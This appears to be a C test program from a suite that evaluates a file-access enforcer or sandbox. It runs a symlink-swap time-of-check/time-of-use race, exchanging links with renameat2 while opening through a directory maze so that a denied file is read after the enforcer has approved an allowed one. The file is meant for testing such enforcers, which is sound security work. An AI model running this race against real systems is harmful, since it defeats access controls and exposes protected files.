// SPDX-License-Identifier: GPL-2.0-only
/*
 * Claim: the object that is opened is the object that was judged, although a
 * symbolic link on the way is exchanged all the time (catalogue B1).
 *
 *	opener			swapper			enforcer
 *	openat(link) --------------------------------->	resolves link: permitted
 *				renameat2(link, other,
 *				  RENAME_EXCHANGE)
 *	kernel walks link: denied <-------------------	lets the call through
 *
 * Both links lie in the scratch directory; the name that is opened comes to the
 * link through a maze (maze.h). Winning prints DATA and the content of the denied
 * file.
 */
#include "maze.h"
#include "race.h"

#ifndef RENAME_EXCHANGE
#define RENAME_EXCHANGE 2
#endif

static char link_name[PATH_MAX], other_name[PATH_MAX], long_way[PATH_MAX];

static void place(char *name, const char *dir, const char *leaf, const char *target)
{
	join(name, dir, leaf);
	unlinkat(way_from, name, 0);
	if (symlinkat(target, way_from, name))
		broken("symlink %s: %s", name, strerror(errno));
}

static void swap_run(struct flip *flip)
{
	for (unsigned int turn = 1; !atomic_load(&flip->stop); turn++) {
		syscall(SYS_renameat2, JUNK(way_from), link_name, JUNK(way_from), other_name,
			JUNK(RENAME_EXCHANGE));
		atomic_store(&flip->turns, turn);
		flip_pause();
	}
}

static void race(struct run *run, const char *first, const char *second)
{
	run_learn_decoy(run);
	place(link_name, run->dir, "link", first);
	place(other_name, run->dir, "other", second);
	maze_make(run->dir);
	maze_name(long_way, run->dir, "link");
	race_against_child(run, shared_memory(sizeof(struct flip)), swap_run, long_way);
}

int main(int argc, char **argv)
{
	struct run run = run_begin(argc, argv);

	switch (run.mode) {
	case MODE_BENIGN:
		run.limit = BENIGN_ROUNDS;
		race(&run, run.allowed, run.allowed);
		break;
	case MODE_DIRECT:
		run_plain_read(&run, run.denied);
		break;
	case MODE_ATTACK:
		race(&run, run.allowed, run.denied);
		break;
	}
	run_end(&run);
}
